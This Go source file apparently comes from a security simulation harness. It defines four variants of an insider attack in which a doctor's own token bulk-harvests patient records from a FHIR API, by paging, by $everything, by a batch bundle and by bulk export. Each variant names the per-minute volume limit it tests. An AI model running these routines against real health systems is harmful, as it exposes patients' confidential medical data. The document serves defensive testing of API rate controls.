package attacker

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"

	"thiefbox/sim/event"
)

const beyondVolume = beyondObjects + " Here even that is no help: each record is his to open. One that bounds how many a caller is handed in a minute stops him midway."

// charts are the types that a chart is made of. What patients tell in confidence takes a better sign-in, and he leaves it.
var charts = []string{"Patient", "Encounter", "Condition", "Observation", "MedicationRequest", "AllergyIntolerance"}

// workInAMinute is what the thief's own work takes: whole charts of six patients. He has eight.
const workInAMinute = 125

var _ = register("F-14", Technique{
	Variant: "type-after-type",
	Title:   "Everything that is his to read, in a second",
	Story: "The thief is a doctor who leaves next week, with patients of his own and a program that he has written. It asks for the records of each " +
		"type, on pages as long as the API makes them, until it has all that he may see. No record is one that he may not open.",
	Reads:  []string{"OWASP API4:2023", "OWASP API6:2023", "RFC 6585 s4"},
	Has:    []event.Asset{event.OwnClient},
	Scene:  Scene{Allowance: workInAMinute},
	Beyond: beyondVolume,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		for _, kind := range charts {
			if last, err := a.pages(ctx, g.Target().FHIRBase+"/"+kind+"?_count=250", t); err != nil || !last.ok() {
				return err
			}
		}
		return nil
	},
})

var _ = register("F-14/everything", Technique{
	Variant: "everything",
	Title:   "One operation for each of his patients",
	Story: "The thief is a doctor with patients of his own. He asks who they are, and for everything there is about each: nine requests, where a list " +
		"of guesses takes hundreds.",
	Reads:  []string{"OWASP API4:2023", "FHIR R4 Patient-everything"},
	Has:    []event.Asset{event.OwnClient},
	Scene:  Scene{Allowance: workInAMinute},
	Beyond: beyondVolume,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		list, err := a.read(ctx, g.Target().FHIRBase+"/Patient?_count=250", t)
		if err != nil || !list.ok() {
			return err
		}
		var mine struct {
			Entry []struct {
				Resource struct{ ID string }
			}
		}
		if err := json.Unmarshal(list.body, &mine); err != nil {
			return err
		}
		for _, e := range mine.Entry {
			if last, err := a.pages(ctx, record(g, e.Resource.ID)+"/$everything", t); err != nil || !last.ok() {
				return err
			}
		}
		return nil
	},
})

var _ = register("F-14/bundled", Technique{
	Variant: "bundled",
	Title:   "Everything that is his to read, in one request",
	Story: "The thief is a doctor with patients of his own, and an API that counts counts requests. He puts all his questions into one: a batch with " +
		"an entry for each type.",
	Reads:    []string{"OWASP API4:2023", "FHIR R4 http, batch"},
	Has:      []event.Asset{event.OwnClient},
	Scene:    Scene{Allowance: workInAMinute},
	Beyond:   beyondVolume + " It must count what each entry hands out before it comes to the next.",
	Evidence: "One batch whose answer has many patients' records, all of them the caller's to read.",
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		var entries []string
		for _, kind := range charts {
			entries = append(entries, `{"request":{"method":"GET","url":"`+kind+`?_count=250"}}`)
		}
		all := `{"resourceType":"Bundle","type":"batch","entry":[` + strings.Join(entries, ",") + `]}`
		_, err = a.write(ctx, http.MethodPost, g.Target().FHIRBase, []byte(all), t)
		return err
	},
})

var _ = register("F-14/exported", Technique{
	Variant: "exported",
	Title:   "An export of all that is his to read",
	Story: "The thief is a doctor with patients of his own. An API that hands records out in bulk, to systems whose work that is, hands them to whoever " +
		"asks. He asks for an export, and fetches its files.",
	Reads:    []string{"FHIR Bulk Data Access 2.0", "OWASP API4:2023"},
	Has:      []event.Asset{event.OwnClient},
	Scene:    Scene{Allowance: workInAMinute},
	Beyond:   beyondVolume + " It must count the files of an export to a person: to bulk data, a bound for people does not belong.",
	Evidence: "An export that a person has asked for, and not a system.",
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		ans, err := a.startExport(ctx, g.Target().FHIRBase+"/Patient/$export?_type="+strings.Join(charts, ","), t)
		if err != nil {
			return err
		}
		if ans.status != http.StatusAccepted {
			return ErrStopped
		}
		files, err := a.filesOf(ctx, ans.header.Get("Content-Location"), t)
		for _, file := range files {
			if ans, err := a.read(ctx, file, t); err != nil || !ans.ok() {
				return err
			}
		}
		return err
	},
})
